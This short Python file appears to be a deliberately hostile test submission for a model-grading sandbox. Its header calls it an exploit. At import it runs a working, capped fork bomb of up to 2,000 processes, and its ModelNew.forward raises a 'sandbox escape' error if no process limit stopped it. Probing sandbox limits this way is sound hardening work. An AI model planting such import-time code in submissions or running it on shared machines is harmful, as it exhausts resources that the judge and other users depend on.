# Exploit: a fork bomb at import. Processes that fork until the kernel refuses (up to 2,000) take the
# machine's process table from the judge and every other job. The sandbox's user has a process limit
# of its own (1,024 with the worker's threads), and every process of the sandbox ends with its
# evaluation. Without a limit the candidate fails loudly.
import os
import signal
import time

import torch
import torch.nn as nn

_ceiling = 2000


def _bomb():
    read_end, write_end = os.pipe()
    leader = os.fork()
    if leader:
        os.close(write_end)
        made = int(os.read(read_end, 32) or b"0")
        os.close(read_end)
        os.waitpid(leader, 0)
        return made
    os.close(read_end)
    os.setpgid(0, 0)
    made = 0
    try:
        while made < _ceiling:
            if os.fork() == 0:
                time.sleep(30)
                os._exit(0)
            made += 1
    except OSError:
        pass
    os.write(write_end, str(made).encode())
    os.killpg(0, signal.SIGKILL)


_made = _bomb()


class ModelNew(nn.Module):
    def __init__(self):
        super().__init__()

    def forward(self, x):
        if _made >= _ceiling:
            raise RuntimeError("sandbox escape: %d processes started without a limit" % _made)
        return torch.relu(x)
